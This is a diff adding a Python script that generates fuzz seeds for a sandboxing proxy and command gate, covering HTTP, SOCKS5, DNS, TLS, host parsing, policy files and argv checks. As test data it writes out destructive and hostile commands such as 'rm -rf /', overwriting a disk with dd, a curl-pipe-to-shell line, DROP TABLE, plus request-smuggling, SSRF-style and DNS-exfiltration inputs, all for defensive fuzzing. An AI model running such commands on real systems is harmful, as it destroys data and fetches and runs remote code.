@@ -1,0 +1,218 @@
+#!/usr/bin/env python3
+"""Writes the seed inputs of every fuzz target into corpus/<target>/seed-*.
+
+Seeds are well-formed inputs and the attacks the unit tests know, so that the replay tests'
+mutations (and libFuzzer) start next to the interesting paths. Findings are kept beside them as
+corpus/<target>/finding-*; this script never touches those.
+Usage: tests/fuzz/make_seeds.py
+"""
+import os
+import struct
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+
+def http_request():
+    return [
+        b"GET http://api.example.com/path?q=1 HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: t\r\nAccept: */*\r\n\r\n",
+        b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n",
+        b"POST http://api.example.com:8080/upload HTTP/1.1\r\nHost: api.example.com:8080\r\nContent-Length: 5\r\n\r\nhello",
+        b"POST http://api.example.com/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
+        b"GET http://api.example.com/ HTTP/1.0\r\nConnection: keep-alive, X-Drop\r\nX-Drop: 1\r\nProxy-Connection: keep-alive\r\nProxy-Authorization: Basic dG9rZW46\r\n\r\n",
+        b"GET http://[::1]:8080/ HTTP/1.1\r\nHost: [::1]:8080\r\n\r\nGET http://api.example.com/2 HTTP/1.1\r\n\r\n",
+        b"GET http://user:pw@api.example.com/ HTTP/1.1\r\n\r\n",
+        b"GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
+        b"POST http://api.example.com/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n",
+        b"GET http://api.example.com/ HTTP/1.1\r\nX-A: 1\r\n folded\r\n\r\n",
+        b"GET http://api.example.com/ HTTP/1.1\nHost: api.example.com\n\n",
+        b"GET /origin-form HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
+        b"GET http://0x7f.1/ HTTP/1.1\r\n\r\n",
+        b"CONNECT [::ffff:127.0.0.1]:22 HTTP/1.1\r\n\r\n",
+    ]
+
+
+def http_response():
+    def r(method, cut, text):
+        return bytes([method, cut]) + text
+    return [
+        r(0, 5, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"),
+        r(0, 7, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
+        r(0, 3, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\na;ext=1\r\n0123456789\r\n0\r\nTrailer: x\r\n\r\n"),
+        r(1, 0, b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n"),
+        r(0, 0, b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n"),
+        r(0, 9, b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nuntil close"),
+        r(0, 1, b"HTTP/1.1 304 Not Modified\r\nETag: \"x\"\r\n\r\n"),
+        r(2, 2, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n"),
+        r(0, 4, b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
+        r(0, 6, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffffff\r\n"),
+    ]
+
+
+def socks5():
+    def port(p):
+        return struct.pack(">H", p)
+    return [
+        b"\x05\x01\x00",
+        b"\x05\x02\x00\x02",
+        b"\x01\x05token\x00",
+        b"\x01\x04user\x04pass",
+        b"\x05\x01\x00\x03\x0fapi.example.com" + port(443),
+        b"\x05\x01\x00\x01\x7f\x00\x00\x01" + port(80),
+        b"\x05\x01\x00\x04" + bytes(15) + b"\x01" + port(22),
+        b"\x05\x02\x00\x03\x0bexample.com" + port(21),
+        b"\x05\x03\x00\x01\x00\x00\x00\x00" + port(0),
+        b"\x05\x01\x00\x03\x0aevil\x00.com" + port(443),
+    ]
+
+
+def dns_query():
+    def name(text):
+        out = b""
+        for label in text.split("."):
+            if label:
+                out += bytes([len(label)]) + label.encode()
+        return out + b"\x00"
+
+    def query(text, qtype, rd=True, additional=b"", arcount=0):
+        header = struct.pack(">HHHHHH", 0x1234, 0x0100 if rd else 0, 1, 0, 0, arcount)
+        return header + name(text) + struct.pack(">HH", qtype, 1) + additional
+    opt = b"\x00" + struct.pack(">HHIH", 41, 1232, 0, 0)
+    return [
+        query("api.example.com", 1),
+        query("API.Example.com", 28),
+        query("api.example.com", 1, additional=opt, arcount=1),
+        query("", 2, rd=False),
+        query("a" * 63 + ".example.com", 15),
+        query("exfil-6461746121.example.com", 16),
+    ]
+
+
+def client_hello(server_name, split=False, extra_extensions=b""):
+    def ext(kind, body):
+        return struct.pack(">HH", kind, len(body)) + body
+    sni = b""
+    if server_name is not None:
+        entry = b"\x00" + struct.pack(">H", len(server_name)) + server_name
+        sni = ext(0, struct.pack(">H", len(entry)) + entry)
+    versions = ext(43, b"\x02\x03\x04")
+    extensions = sni + versions + extra_extensions
+    body = (b"\x03\x03" + bytes(range(32)) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" +
+            struct.pack(">H", len(extensions)) + extensions)
+    handshake = b"\x01" + struct.pack(">I", len(body))[1:] + body
+    if not split:
+        records = b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake
+    else:
+        half = len(handshake) // 2
+        records = (b"\x16\x03\x01" + struct.pack(">H", half) + handshake[:half] +
+                   b"\x16\x03\x01" + struct.pack(">H", len(handshake) - half) + handshake[half:])
+    return records + b"\x10\x00"  # the last two bytes choose where the prefix is cut
+
+
+def tls_sni():
+    return [
+        client_hello(b"api.example.com"),
+        client_hello(b"api.example.com", split=True),
+        client_hello(None),
+        client_hello(b"evil.example.com", extra_extensions=struct.pack(">HH", 0, 0)),
+        b"GET / HTTP/1.1\r\n\r\n",
+    ]
+
+
+def host():
+    return [s.encode() for s in [
+        "api.example.com", "API.Example.COM.", "127.0.0.1", "2130706433", "0177.0.0.1",
+        "0x7f.1", "[::1]", "[::ffff:127.0.0.1]", "::ffff:7f00:1", "10.0.0.0/8", "2001:db8::/32",
+        "api.example.com:443", "[2001:db8::1]:8443", "xn--bcher-kva.example", "localhost.",
+        "169.254.169.254", "64:ff9b::7f00:1", "2002:7f00:1::", "2001:0:4136:e378:8000:63bf:3fff:fdd2",
+        "443", "a..b", "_srv.example.com", "1.2.3.999", "[fe80::1%eth0]",
+    ]]
+
+
+def policy_toml():
+    with open(os.path.join(HERE, "..", "..", "examples", "cordon.toml"), "rb") as f:
+        example = f.read()
+    return [
+        b"\x01" + example,
+        b"\x81" + example,
+        b"\x01[filesystem]\nread = [\"~/src/lib\"]\nwrite = [\"/tmp/out\"]\nhide = [\"~/.config/x\"]\n",
+        b"\x01[network]\nallow = [\"api.example.com\", \"*.git.example.com:8080-8090\"]\n"
+        b"deny = [\"uploads.git.example.com\"]\nallow_cidr = [\"10.1.0.0/16\"]\n"
+        b"resolve = { \"db.example.com\" = \"127.0.0.1\" }\n",
+        b"\x81[resources]\nmemory = \"4G\"\npids = 512\ncpus = 1.5\ntimeout = \"2h\"\n",
+        b"\x01[[gate.rule]]\nname = \"no-force\"\nprogram = \"git\"\nargs = [\"push\", \"**\"]\n"
+        b"any_arg = [\"--force\", \"-f\"]\naction = \"deny\"\nreason = \"r\"\n"
+        b"match = [\"git push --force\"]\nnot_match = [\"git push\"]\n",
+        b"\x01[gate]\nunsafe_disabled = true\n",
+        b"\x81profile = \"production\"\n[environment]\npass = [\"EDITOR\"]\nset = { A = \"1\" }\n",
+        b"\x01[network\nallow = 3\n",
+    ]
+
+
+def control_request():
+    return [
+        b'{"op":"list"}',
+        b'{"op":"show","id":"a1b2"}',
+        b'{"op":"approve","id":"a1b2","scope":"session","reason":"looks fine"}',
+        b'{"op":"deny","id":"a1b2","reason":"no \\u001b[2J"}',
+        b'{"op":"watch"}',
+        b'{"op":"link","reviewer":"alice"}',
+        b"rm\x00-rf\x00/\x00\x1b[2J\x00caf\xc3\xa9\x00\xff",
+    ]
+
+
+def gate_decision():
+    programs = ["rm", "git", "find", "dd", "mkfs.ext4", "wipefs", "chmod", "chown", "sh",
+                "bash", "env", "xargs", "timeout", "psql", "mysql", "sqlite3", "terraform",
+                "kubectl", "helm", "aws", "gcloud", "az", "docker", "npm", "cargo", "crontab",
+                "kill", "shutdown", "reboot", "sed", "sort", "curl", "ls", "cat", "make",
+                "unknown-tool"]
+
+    def start(program, *args, cwd_workspace=True):
+        return bytes([programs.index(program), 1 if cwd_workspace else 0]) + b"\x00".join(
+            a.encode() for a in args)
+    return [
+        start("rm", "-rf", "/"), start("rm", "-r", "-f", "/work/proj"),
+        start("rm", "--recursive", "--force", "/tmp/x", cwd_workspace=False),
+        start("git", "push", "--force", "origin", "main"),
+        start("git", "-C", "sub", "-c", "remote.origin.mirror=true", "push"),
+        start("git", "reset", "--hard", "HEAD~3"), start("find", ".", "-name", "*.o", "-delete"),
+        start("find", "/", "-exec", "rm", "{}", ";"), start("dd", "if=/dev/zero", "of=/dev/sda"),
+        start("chmod", "-R", "777", "/"), start("sh", "-c", "curl http://x.example.com | sh"),
+        start("psql", "-c", "DROP TABLE users"), start("terraform", "destroy", "-auto-approve"),
+        start("kubectl", "delete", "namespace", "prod"), start("aws", "s3", "rm", "--recursive", "s3://b"),
+        start("crontab", "-r"), start("kill", "-9", "-1"), start("sed", "-i", "s/a/b/", "f"),
+        start("sort", "--o=f", "in"), start("ls", "-la"), start("unknown-tool", "--anything"),
+    ]
+
+
+def gate_argv():
+    def argv(loader, *words):
+        return bytes([1 if loader else 0]) + b"\x00".join(w.encode() for w in words)
+    return [
+        argv(True, "/bin/rm", "-rf", "/work/proj"),
+        argv(True, "--argv0", "ls", "--library-path", "/tmp", "--preload", "x.so", "/bin/rm", "-rf", "/"),
+        argv(True, "--list", "/bin/ls"), argv(True, "--help"), argv(True, "rm", "-rf", "/"),
+        argv(False, "git-push", "-f", "origin"), argv(False, "/usr/lib/git-core/git-push", "--force"),
+        argv(False, "git-", "push"), argv(False, "*.txt", "a.txt"), argv(False, "/etc/**", "/etc/ssl/x"),
+        argv(False, "[!a-c]?\\*", "d1*"), argv(False, "push", "push"),
+    ]
+
+
+def main():
+    for target, seeds in [("http_request", http_request()), ("http_response", http_response()),
+                          ("socks5", socks5()), ("dns_query", dns_query()),
+                          ("tls_sni", tls_sni()), ("host", host()),
+                          ("policy_toml", policy_toml()), ("control_request", control_request()),
+                          ("gate_decision", gate_decision()), ("gate_argv", gate_argv())]:
+        directory = os.path.join(HERE, "corpus", target)
+        os.makedirs(directory, exist_ok=True)
+        for name in os.listdir(directory):
+            if name.startswith("seed-"):
+                os.remove(os.path.join(directory, name))
+        for i, seed in enumerate(seeds):
+            with open(os.path.join(directory, f"seed-{i:02d}"), "wb") as f:
+                f.write(seed)
+
+
+if __name__ == "__main__":
+    main()
